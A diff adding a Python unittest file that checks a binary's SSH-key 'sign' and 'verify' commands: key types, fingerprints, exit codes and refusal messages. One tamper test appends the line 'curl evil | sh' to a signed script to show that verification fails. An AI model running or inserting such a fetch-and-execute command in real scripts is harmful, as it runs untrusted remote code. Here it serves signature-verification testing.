@@ -1,0 +1,111 @@
+#!/usr/bin/python3
+"""Issue 21: `sign` and `verify` of the real binary with keys and signatures from Debian's
+ssh-keygen: the fingerprint printed is ssh-keygen -l's, a refused signature is exit 4 with
+one line naming the file and the reason, a bad trust file is exit 3."""
+
+import os
+import subprocess
+import sys
+import tempfile
+import unittest
+
+BIN = None
+
+
+def run(*args):
+    return subprocess.run([BIN, *args], capture_output=True, text=True, timeout=60)
+
+
+class SigningCli(unittest.TestCase):
+    def setUp(self):
+        self.tmp = tempfile.TemporaryDirectory(prefix='s3us-signing-')
+        self.dir = self.tmp.name
+        self.file = self.path('boot.sh')
+        with open(self.file, 'w') as f:
+            f.write('#!/bin/sh\necho hello\n')
+
+    def tearDown(self):
+        self.tmp.cleanup()
+
+    def path(self, name):
+        return os.path.join(self.dir, name)
+
+    def keygen(self, name, *args):
+        key = self.path(name)
+        subprocess.run(['ssh-keygen', '-q', '-N', '', '-C', name, '-f', key, *args], check=True)
+        with open(key + '.pub') as f:
+            pub = ' '.join(f.read().split()[:2])
+        fp = subprocess.run(['ssh-keygen', '-l', '-f', key + '.pub'], capture_output=True,
+                            text=True, check=True).stdout.split()[1]
+        return key, pub, fp
+
+    def allowed(self, text):
+        p = self.path('allowed_signers')
+        with open(p, 'w') as f:
+            f.write(text)
+        return p
+
+    def assert_refused(self, r, code, *fragments):
+        self.assertEqual(r.returncode, code, r)
+        lines = r.stderr.strip().splitlines()
+        self.assertEqual(len(lines), 1, r.stderr)
+        for frag in fragments:
+            self.assertIn(frag, lines[0])
+        self.assertEqual(r.stdout, '')
+
+    def test_sign_then_verify_for_every_key_type(self):
+        for name, args in [('ed', ['-t', 'ed25519']), ('ec', ['-t', 'ecdsa', '-b', '384']),
+                           ('rsa', ['-t', 'rsa', '-b', '2048'])]:
+            with self.subTest(name):
+                key, pub, fp = self.keygen(name, *args)
+                r = run('sign', self.file, '--key', key)
+                self.assertEqual(r.returncode, 0, r)
+                self.assertIn(fp, r.stdout)
+                allowed = self.allowed(f'deploy@example.com {pub}\n')
+                r = run('verify', self.file, '--allowed-signers', allowed)
+                self.assertEqual(r.returncode, 0, r)
+                self.assertEqual(r.stdout.strip(),
+                                 f'{self.file}: good signature by deploy@example.com ({fp} '
+                                 f'{"ED25519" if name == "ed" else name.upper() if name == "rsa" else "ECDSA"})')
+                # ssh-keygen agrees on the signature our sign wrote.
+                with open(self.file, 'rb') as stdin:
+                    check = subprocess.run(['ssh-keygen', '-Y', 'verify', '-f', allowed, '-I',
+                                            'deploy@example.com', '-n', 's3-user-script', '-s',
+                                            self.file + '.sig'], stdin=stdin, capture_output=True)
+                self.assertEqual(check.returncode, 0, check)
+
+    def test_refusals_name_the_file_and_the_reason(self):
+        key, pub, fp = self.keygen('ed', '-t', 'ed25519')
+        _, stranger, _ = self.keygen('stranger', '-t', 'ed25519')
+        self.assertEqual(run('sign', self.file, '--key', key).returncode, 0)
+        allowed = self.allowed(f'deploy@example.com {pub}\n')
+        self.assert_refused(run('verify', self.file, '--allowed-signers', allowed,
+                                '--principal', 'ops@example.com'), 4, self.file,
+                            f'key {fp} may not sign as ops@example.com')
+        self.assert_refused(run('verify', self.file, '--allowed-signers',
+                                self.allowed(f'deploy@example.com {stranger}\n')), 4,
+                            f'key {fp} is not in allowed_signers')
+        self.assert_refused(run('verify', self.file, '--allowed-signers', self.allowed(
+            f'deploy@example.com valid-before="20200101" {pub}\n')), 4, 'has expired')
+        with open(self.file, 'a') as f:
+            f.write('curl evil | sh\n')
+        allowed = self.allowed(f'deploy@example.com {pub}\n')
+        self.assert_refused(run('verify', self.file, '--allowed-signers', allowed), 4,
+                            self.file, 'signature does not verify')
+        os.unlink(self.file + '.sig')
+        self.assert_refused(run('verify', self.file, '--allowed-signers', allowed), 4,
+                            self.file + '.sig')
+
+    def test_bad_trust_file_and_missing_key_are_setup_errors(self):
+        self.assert_refused(run('verify', self.file, '--allowed-signers',
+                                self.allowed('deploy@example.com ssh-ed25519 AAAA\n')), 3,
+                            'allowed_signers:1', 'malformed public key')
+        self.assert_refused(run('sign', self.file, '--key', self.path('nokey')), 3,
+                            'no key file')
+        r = run('sign', self.file)
+        self.assertEqual(r.returncode, 2, r)
+
+
+if __name__ == '__main__':
+    BIN = sys.argv.pop(1)
+    unittest.main()
